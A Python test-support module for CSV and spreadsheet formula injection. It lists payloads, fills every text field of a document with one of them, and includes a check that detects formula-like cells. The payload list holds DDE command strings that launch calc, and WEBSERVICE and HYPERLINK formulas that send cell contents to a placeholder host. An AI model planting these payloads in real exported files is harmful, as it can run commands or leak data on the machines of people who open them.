"""Texts that a spreadsheet might run as a formula, and a document that has one in every field."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"Open")',
    '=IMPORTXML("http://example.org","//a")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(A1:A9)",
    "=-1",
    "==1",
    "= 1+1",
    " =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " \t =1+1",
    "\x00=1+1",
    " \x00=1+1",
    "\tplain after a tab",
    "\nplain after a line",
    "\x00plain",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 30 1234",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- a list",
    "−1",
    "@SUM(1,1)",
    "@cmd",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "=1+1\nand a second line",
    '"=1+1"',
    '";=1+1',
    "#REF!",
    "{=1+1}",
    "%0A=1+1",
)
STARTS = frozenset("=+-@＝＋－＠")
# What code decides by: it is no text that anybody types.
KEYS = frozenset({"key", "schema_version"})


def everywhere(value: Any, text: str, name: str = "") -> Any:
    """The document with this text in every field that holds one, and in the studies' texts."""
    if is_dataclass(value) and not isinstance(value, type):
        return replace(
            value, **{f.name: everywhere(getattr(value, f.name), text, f.name) for f in fields(value)}
        )
    if isinstance(value, tuple):
        return tuple(everywhere(one, text, name) for one in value)
    if isinstance(value, Mapping):
        return {key: everywhere(one, text, key) for key, one in value.items()} if name == "inputs" else value
    return text if isinstance(value, str) and name not in KEYS else value


def is_run(cell: str) -> bool:
    """Would some spreadsheet take this cell of a CSV file for a formula? Plain numbers are none."""
    try:
        float(cell)
    except ValueError:
        bare = cell.strip(" \u00a0\u2003\u3000\u200b\ufeff\t\r\n\x00")
        return cell[:1] in {"\t", "\r", "\n", "\x00"} or bare[:1] in STARTS
    return cell != cell.strip()
